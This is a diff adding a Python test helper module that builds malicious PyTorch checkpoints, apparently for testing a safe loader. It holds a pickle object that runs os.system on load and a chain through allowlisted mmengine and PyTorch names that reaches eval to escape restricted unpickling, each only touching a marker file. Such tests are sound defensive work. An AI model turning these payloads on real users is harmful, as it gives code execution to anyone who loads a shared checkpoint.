@@ -1,0 +1,67 @@
+"""Files that try to run something when they are loaded."""
+
+from __future__ import annotations
+
+import os
+import zipfile
+from collections import OrderedDict
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import torch
+from mmengine.logging import HistoryBuffer
+from torch import nn
+from torch._tensor import _rebuild_from_type_v2
+
+
+class Call:
+    """Calls a function when it is unpickled."""
+
+    def __init__(self, function: Callable, *args: Any) -> None:
+        self.function, self.args = function, args
+
+    def __reduce__(self):
+        return self.function, self.args
+
+
+def touch(marker: Path) -> Call:
+    """The plain bomb."""
+    return Call(os.system, f'touch {marker}')
+
+
+def chain(marker: Path) -> Call:
+    """From a class that mmengine allows to a shell, by names that it and PyTorch allow alone.
+
+    ``_rebuild_from_type_v2`` calls whatever it is given, if it is told the type of the result.
+    """
+    namespace = Call(getattr, Call(getattr, HistoryBuffer, '__init__'), '__globals__')
+    kind_of_dict = Call(getattr, OrderedDict, '__base__')
+    kind_of_function = Call(getattr, getattr, '__class__')
+    kind_of_int = Call(getattr, 1, '__class__')
+
+    def invoke(function: Call, kind: Call, *args: Any) -> Call:
+        return Call(_rebuild_from_type_v2, function, kind, args, None)
+
+    builtins = invoke(Call(getattr, namespace, 'get'), kind_of_dict, '__builtins__')
+    evaluate = invoke(Call(getattr, builtins, 'get'), kind_of_function, 'eval')
+    return invoke(evaluate, kind_of_int, f'__import__("os").system("touch {marker}")')
+
+
+def save(path: Path, **further: Any) -> Path:
+    """A checkpoint with valid weights, and whatever else."""
+    torch.save(dict(state_dict=nn.Linear(2, 3).state_dict(), **further), path)
+    return path
+
+
+def rezip(
+    source: Path,
+    target: Path,
+    change: Callable[[str, bytes], bytes] = lambda name, content: content,
+    compression: int = zipfile.ZIP_STORED,
+) -> Path:
+    """A copy of a checkpoint, each member changed by name and content."""
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, 'w', compression) as new:
+        for name in old.namelist():
+            new.writestr(name, change(name, old.read(name)))
+    return target
